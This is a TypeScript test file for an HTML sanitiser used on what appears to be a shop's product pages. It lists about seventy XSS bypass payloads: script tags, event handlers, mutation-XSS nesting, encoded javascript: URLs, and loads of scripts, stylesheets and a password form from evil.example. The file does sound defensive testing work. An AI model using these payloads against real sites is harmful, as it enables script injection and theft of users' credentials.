import fc from "fast-check"
import { expect, test } from "vitest"
import { SANITISER_VERSION, sanitiseHtml } from "./sanitise-html.ts"

/** Any tag other than those of running text, and any attribute other than a safe link with its rel. */
const HARMFUL =
  /<(?!\/?(?:p|ul|ol|li|b|strong|i|em|h3|h4|table|thead|tbody|tr|th|td)>|br \/>|\/?a>|a href="(?:https:\/\/|mailto:|\/(?!\/))[^"]*" rel="noopener nofollow">)/

const vectors = [
  `<script>alert(1)</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script>alert(1)`,
  `<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>`,
  `<<SCRIPT>alert("x");//<</SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img """><script>alert(1)</script>">`,
  `<p onclick="alert(1)" style="position:fixed" class=x id=y>text</p>`,
  `<p/onmouseover=alert(1)>text</p>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
  `<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>`,
  `<style><img src="</style><img src=x onerror=alert(1)//">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<template><script>alert(1)</script></template>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
  `<select><template><img src=x onerror=alert(1)></template></select>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<form action="https://evil.example"><input name=password><button>Go</button></form>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="java&#9;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/\\evil.example">x</a>`,
  `<a href="/\t/evil.example">x</a>`,
  `<a href="https:evil.example">x</a>`,
  `<a href="https://good.example" target=_blank onclick=alert(1)>x</a>`,
  `<a href='https://good.example/"onmouseover="alert(1)'>x</a>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>`,
  `<p title="</p><img src=x onerror=alert(1)>">text</p>`,
  `<div><div><img src=x onerror=alert(1)></div>`,
  `<div>&lt;script&gt;alert(1)&lt;/script&gt;</div>`,
  `<b <script>alert(1)</script>0`,
  `<table><td><svg><desc><table><td></desc><img src=x onerror=alert(1)></svg>`,
  `<a><p><a href="javascript:alert(1)"><p>x</a>`,
  `<h1><p><h3 onfocus=alert(1) autofocus>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `<p>${"<b>".repeat(5000)}deep`,
  `${"<div>".repeat(3000)}deep`,
]

test.each(vectors.map((vector) => [vector.slice(0, 80), vector]))("nothing that a browser executes is left of %s", (_name, vector) => {
  const clean = sanitiseHtml(vector)
  expect(clean).not.toMatch(HARMFUL)
  expect(sanitiseHtml(clean)).toBe(clean)
})

test("a refused element is removed with its content, and an unknown one leaves its text", () => {
  expect(sanitiseHtml("<svg><p>hidden</p></svg>shown")).toBe("shown")
  expect(sanitiseHtml("<noscript><p>hidden</p></noscript>shown")).toBe("shown")
  expect(sanitiseHtml('<p><span class="x">shown</span> <font color=red>too</font></p>')).toBe("<p>shown too</p>")
})

test("running text is unchanged", () => {
  const text = "<p>A <b>good</b> <em>phone</em>: 5 &lt; 6 &amp; 7</p><ul><li>One</li><li>Two</li></ul><h3>Box</h3>"
  expect(sanitiseHtml(text)).toBe(text)
  expect(sanitiseHtml("No tags at all, ‏عربي 🎧")).toBe("No tags at all, ‏عربي 🎧")
})

test("links to the web, to mail and into the shop are kept and reveal nothing", () => {
  expect(sanitiseHtml('<a href="https://maker.example/x?a=1&b=2">x</a>')).toBe(
    '<a href="https://maker.example/x?a=1&amp;b=2" rel="noopener nofollow">x</a>',
  )
  expect(sanitiseHtml('<a href="mailto:help@shop.example">x</a>')).toBe('<a href="mailto:help@shop.example" rel="noopener nofollow">x</a>')
  expect(sanitiseHtml('<a href="/policy?tab=terms">x</a>')).toBe('<a href="/policy?tab=terms" rel="noopener nofollow">x</a>')
  expect(sanitiseHtml('<a href="http://maker.example">x</a>')).toBe("<a>x</a>")
})

test("block elements of other shops' editors become paragraphs, and headings the two levels of a product page", () => {
  expect(sanitiseHtml('<div class="rte"><div>One</div><div>Two <b>three</b></div></div>')).toBe("<p>One</p><p>Two <b>three</b></p>")
  expect(sanitiseHtml("<h1>Big</h1><h2>Less</h2><h5>Small</h5>")).toBe("<h3>Big</h3><h3>Less</h3><h4>Small</h4>")
})

test("sanitising any text twice is the same as sanitising it once", () => {
  const piece = fc.constantFrom(
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<a href='/x'>",
    "</a>",
    "<li>",
    "<ul>",
    "</ul>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<svg>",
    "</svg>",
    "<b",
    ">",
    "<!--",
    "-->",
    "&lt;",
    "&",
    "x",
    '"',
    "<h1>",
    "</h1>",
    "<xmp>",
    "</xmp>",
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      const clean = sanitiseHtml(pieces.join(""))
      expect(clean).not.toMatch(HARMFUL)
      expect(sanitiseHtml(clean)).toBe(clean)
    }),
    { numRuns: 1000 },
  )
})

test("the rules have a version", () => {
  expect(SANITISER_VERSION).toBeGreaterThan(0)
})

test("the corpus is harmful for the most part before it is sanitised", () => {
  expect(vectors.filter((vector) => HARMFUL.test(vector)).length).toBeGreaterThan(50)
})
